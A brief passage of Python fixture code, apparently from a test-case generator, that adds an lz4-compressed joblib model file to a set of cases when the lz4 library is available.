        note="maps and truncates a file",
    )
    try:
        import lz4.frame

        cases.add("compressed-lz4/model.joblib.lz4", lz4.frame.compress(after(floats)))
    except ImportError:
        pass
